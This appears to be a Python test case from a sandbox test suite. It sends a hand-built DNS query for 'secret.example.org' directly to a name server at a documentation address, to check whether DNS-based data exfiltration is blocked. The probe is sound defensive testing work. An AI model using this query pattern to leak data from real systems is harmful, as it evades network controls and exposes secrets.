# Asks a name server itself, in whose names data could go out.
# ends: blocked
# seen: network
# permissive: blocked unseen, since it may have a socket but no way leads from it
# control: network

import socket

try:
    query = bytes.fromhex("123401000001000000000000") + b"\6secret\7example\3org\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.sendto(query, ("192.0.2.53", 53))
        data = made.recv(512)
    verdict = f"GOT:{data}"
except OSError as error:
    verdict = f"BLOCKED:{error}"
verdict
